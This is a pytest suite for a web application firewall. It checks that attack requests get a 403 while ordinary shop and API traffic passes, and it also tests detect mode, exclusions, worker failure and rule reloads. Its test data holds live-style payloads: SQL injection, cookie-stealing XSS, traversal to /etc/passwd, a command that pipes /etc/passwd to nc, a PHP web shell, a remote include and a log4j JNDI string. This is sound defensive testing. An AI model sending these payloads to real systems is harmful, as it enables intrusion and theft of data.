"""The web application firewall with Debian's own core rule set: attacks of its classes are refused, what a shop and an API send day by
day is not, by HTTP/1.1 and HTTP/2; limits, exclusions and detection only; workers that are killed, a firewall that is away, and
rules that are loaded anew under traffic."""
import concurrent.futures
import json
import os
import urllib.parse

import pytest

from lab.cardea import Cardea
from lab.waf import Waf
from lab.wait import until
from lab.web import BASE, Web

OWN = 'SecRule ARGS:own "@streq {word}" "id:1000,phase:2,deny"\nSecRule REQUEST_BODY "@contains worst" "id:1001,phase:2,deny"\n'
VERSIONS = {"h1": (BASE, "--http1.1"), "h2": ("https://shop.example:8443", "--http2")}
FORM = ("-H", "Content-Type: application/x-www-form-urlencoded")
JSON = ("-H", "Content-Type: application/json")
WAF = {"time_max": "20s"}  # the machine of the tests is shared
FOLDER = {}


def inspected(document):
    rules = FOLDER["path"] / "own.conf"
    rules.write_text(OWN.format(word="bad"))
    document["l7"]["waf"] = {"workers": 2, "queue": 64}
    routes = [
        {"name": "detect", "match": {"path": "/echo/detect"}, "pool": "origin", "waf": {**WAF, "mode": "detect"}},
        {"name": "excluded", "match": {"path": "/echo/excluded"}, "pool": "origin", "waf": {**WAF, "exclude": ["942000-942999"]}},
        {"name": "off", "match": {"path": "/echo/off"}, "pool": "origin", "waf": {"enabled": False}},
        {"name": "own", "match": {"path": "/echo/own"}, "pool": "origin", "waf": {**WAF, "files": [str(rules)]}},
        {"name": "slow", "match": {"path": "/echo/slow"}, "pool": "origin",
         "waf": {**WAF, "time_max": "1500ms", "value_max": "1MiB", "body_max": "1MiB"}},
        {"name": "api", "match": {"path": "/sink/api"}, "pool": "origin", "waf": {**WAF, "preset": "api", "when_over": "part"}}]
    for service in document["services"]:
        if service["name"].startswith("origin"):
            service["waf"] = dict(WAF)
            service["routes"] = [dict(route) for route in routes] + service["routes"]


class Inspected(Web):
    def __init__(self):
        super().__init__(origin=True, change=inspected, make_cardea=self.make)

    def make(self, site, document):
        self.waf = Waf(site).start()
        self._stack.callback(self.waf.stop)
        return Cardea(site, document)

    def __enter__(self):
        super().__enter__()
        self.waf.until_working(self.cardea)
        return self


@pytest.fixture(scope="module")
def web(tmp_path_factory):
    FOLDER["path"] = tmp_path_factory.mktemp("waf")
    with Inspected() as running:
        yield running


@pytest.fixture(params=VERSIONS)
def version(request):
    return VERSIONS[request.param]


ATTACKS = {name: ("/echo?x=" + urllib.parse.quote(value),) for name, value in {
    "sql": "1' UNION SELECT password FROM users--",
    "xss": "<script>alert(document.cookie)</script>",
    "traversal": "../../../../etc/passwd",
    "command": ";cat /etc/passwd|nc 10.0.0.1 80",
    "php": "<?php system($_GET['c']); ?>",
    "remote file": "http://192.0.2.66/shell.txt?",
    "log4j": "${jndi:ldap://192.0.2.66/a}",
}.items()} | {"scanner": ("/echo", "-A", "sqlmap/1.7.2#stable (https://sqlmap.org)")}
INJECTED = "user=admin&pass=" + urllib.parse.quote("' OR '1'='1")
BODIES = {
    "sql": ("/sink", *FORM, "-d", INJECTED),
    "no type": ("/sink", "-H", "Content-Type:", "-d", INJECTED),
    "json": ("/sink", *JSON, "-d", json.dumps({"a": {"b": ["x", "1' UNION SELECT password FROM users--"]}})),
    "multipart": ("/sink", "--form-string", "q=<script>alert(document.cookie)</script>"),
    "upload": ("/sink", "-F", "file=@/etc/hostname;filename=shell.php"),
}
ORDINARY = {
    "start": ("/echo",), "search": ("/echo?q=red+shoes&page=2&sort=price",), "words": ("/echo?q=" + urllib.parse.quote("rock'n'roll & jazz"),),
    "cookie": ("/echo", "-H", "Cookie: session=5f2c9a7d0b; lang=de"), "login": ("/sink", *FORM, "-d", "user=ann&pass=correct+horse"),
    "order": ("/sink", *JSON, "-d", json.dumps({"items": [{"sku": f"A-{i}", "count": i, "note": "gift for O'Brien"} for i in range(5)]})),
    "upload": ("/sink", "-F", "name=holiday", "-F", "file=@/etc/hostname;filename=photo.jpg;type=image/jpeg"),
    "address": ("/sink", *FORM, "-d", "street=" + urllib.parse.quote("Große Straße 5/7") + "&city=Bern"),
}


def statuses(web, version, requests):
    """Of (path, words of curl…) by name, one after another by one curl over one connection."""
    (base, protocol), words = version, []
    for path, *more in requests.values():
        words += ["--next", "-sS", protocol, "--cacert", web.authority.certificate, "--max-time", 20, "-o", "/dev/null", "-w", "%{http_code} ", *more, base + path]
    told = web.site.client.run("curl", *words[1:], timeout=60).stdout.split()
    return dict(zip(requests, map(int, told), strict=True))


def all_of(requests, status):
    return dict.fromkeys(requests, status)


def test_attacks_in_a_query(web, version):
    before = len(web.access_log())
    assert statuses(web, version, ATTACKS) == all_of(ATTACKS, 403)
    until(lambda: len(web.access_log()) >= before + len(ATTACKS), 5, "all are logged")
    for line in web.access_log()[before:]:
        assert (line["waf"], line["reason"]) == ("blocked", "waf") and line["waf_score"] >= 5 and line["waf_rules"], line


def test_attacks_in_a_body(web, version):
    assert statuses(web, version, BODIES) == all_of(BODIES, 403)


def test_a_type_is_no_way_around(web, version):
    """There is no gRPC where the pool speaks HTTP/1. (Refusals of it have status 200 all the same.)"""
    grpc = ("/echo/own", "-H", "Content-Type: application/grpc", "-d", "worst")
    statuses(web, version, {"grpc": grpc, "two": ("/echo/own", *FORM, *JSON, "-d", "worst")})
    for reason in ("waf", "waf_over"):
        assert web.logged(route="own", proto="HTTP/2.0" if version == VERSIONS["h2"] else "HTTP/1.1", reason=reason)


def test_the_beginning_of_an_upload_is_inspected_with_its_fields(web, version):
    """Of a body beyond body_max the rest goes on unseen, where that is wanted: what came before it is seen all the same."""
    big = FOLDER["path"] / "big"
    big.write_bytes(b"x" * 300_000)
    file = ("-F", f"file=@{big};filename=photo.jpg;type=image/jpeg")
    asked = {"attack": ("/sink/api", "--form-string", "q=<script>alert(document.cookie)</script>", *file),
             "fine": ("/sink/api", "--form-string", "q=holiday", *file)}
    assert statuses(web, version, asked) == {"attack": 403, "fine": 200}


def test_what_people_send(web, version):
    assert statuses(web, version, ORDINARY) == all_of(ORDINARY, 200), web.access_log()[-3:]


def test_what_apis_send(web, version):
    problem = ("-H", "Content-Type: application/problem+json", "-d", '{"title": "none left", "status": 409}')
    methods = {"GET": (), "DELETE": (), "PUT": problem, "PATCH": problem, "POST": problem}
    sent = {path: {method: (path, "-X", method, *more) for method, more in methods.items()} for path in ("/sink", "/sink/api")}
    assert statuses(web, version, sent["/sink/api"]) == all_of(methods, 200), web.access_log()[-5:]
    assert statuses(web, version, sent["/sink"]) == {**all_of(methods, 403), "GET": 200}


def test_detection_exclusions_and_routes_without(web, version):
    attack = "?id=" + urllib.parse.quote("1' UNION SELECT password FROM users--")
    words = {"detect": "detected", "excluded": "pass", "off": None, "own": "pass"}
    assert statuses(web, version, {route: (f"/echo/{route}{attack}",) for route in words}) == all_of(words, 200)
    for route, word in words.items():
        assert web.logged(route=route, waf=word)
    assert statuses(web, version, {"own": ("/echo/own?own=bad",)}) == {"own": 403}


def test_ten_megabytes(web, version):
    upload = FOLDER["path"] / "upload"
    upload.write_bytes(os.urandom(10 << 20))
    words = ("-H", "Expect:", "-H", "Content-Type: application/octet-stream", "--data-binary", f"@{upload}")
    base, protocol = version
    status, _, body = web.get(base + "/sink/api", protocol, *words)
    assert (status, json.loads(body)["length"]) == (200, 10 << 20)
    assert web.logged(route="api", waf="over")
    assert statuses(web, version, {"too much": ("/sink", *words)}) == {"too much": 413}


def test_a_slow_request_ends_its_worker_and_nobody_elses_answer(web):
    long = FOLDER["path"] / "long"
    long.write_text("a=" + urllib.parse.quote("x y' or ") * 60_000)
    slow = (*FORM, "-H", "Expect:", "-d", f"@{long}")
    with concurrent.futures.ThreadPoolExecutor(6) as pool:
        slows = [pool.submit(web.get, BASE + "/echo/slow", *slow) for _ in range(2)]
        others = [pool.submit(web.get, BASE + "/echo?q=1") for _ in range(8)]
        assert [done.result()[0] for done in others] == [200] * 8
        assert [done.result()[0] for done in slows] == [503] * 2
    late = web.logged(route="slow", reason="waf_late")
    ended = lambda: sum(web.cardea.cli("status")["waf"][how] for how in ("late", "deserted"))
    until(lambda: ended() >= len(late), 10, "the workers that began with one are ended")


def test_killed_workers_are_replaced(web):
    for _ in range(3):
        before = set(web.waf.workers())
        web.waf.kill_workers()
        until(lambda: len(set(web.waf.workers()) - before) == 2, 5, "others are there")
        assert web.get(BASE + "/echo?q=1")[0] == 200


def test_while_it_is_away(web):
    web.waf.stop()
    assert web.get(BASE + "/echo?q=1")[0] == 503 and web.logged(reason="waf_away")[-1]["waf"] == "away"
    assert web.get(BASE + "/echo/detect?q=1")[0] == 200 and web.get(BASE + "/echo/off?q=1")[0] == 200
    web.waf.start()
    web.waf.until_working(web.cardea)
    assert web.get(BASE + "/echo?q=1")[0] == 200


def test_rules_are_loaded_anew_and_broken_ones_refused(web):
    rules = FOLDER["path"] / "own.conf"
    rules.write_text(OWN.format(word="worse"))
    with concurrent.futures.ThreadPoolExecutor(2) as pool:
        running = [pool.submit(web.get, BASE + "/echo?q=1") for _ in range(12)]
        web.reload()
        assert [done.result()[0] for done in running] == [200] * 12
    assert web.get(BASE + "/echo/own?own=worse")[0] == 403 and web.get(BASE + "/echo/own?own=bad")[0] == 200
    rules.write_text("SecFoo bar\n")
    refused = web.cardea.reload(check=False)
    assert refused.returncode != 0 and "own.conf" in refused.stderr + refused.stdout and "Line: 1" in refused.stderr + refused.stdout
    assert web.get(BASE + "/echo/own?own=worse")[0] == 403
    rules.write_text(OWN.format(word="bad"))
    web.reload()


def test_explain_and_status_tell(web):
    story = web.cardea.explain_url("GET", BASE + "/echo?q=1")
    assert story["waf"] == "block" and any("core rule set" in line for line in story["story"])
    until(lambda: "2 workers" in web.cardea.run("status").stdout, 5, "the workers of the last rules are told of")
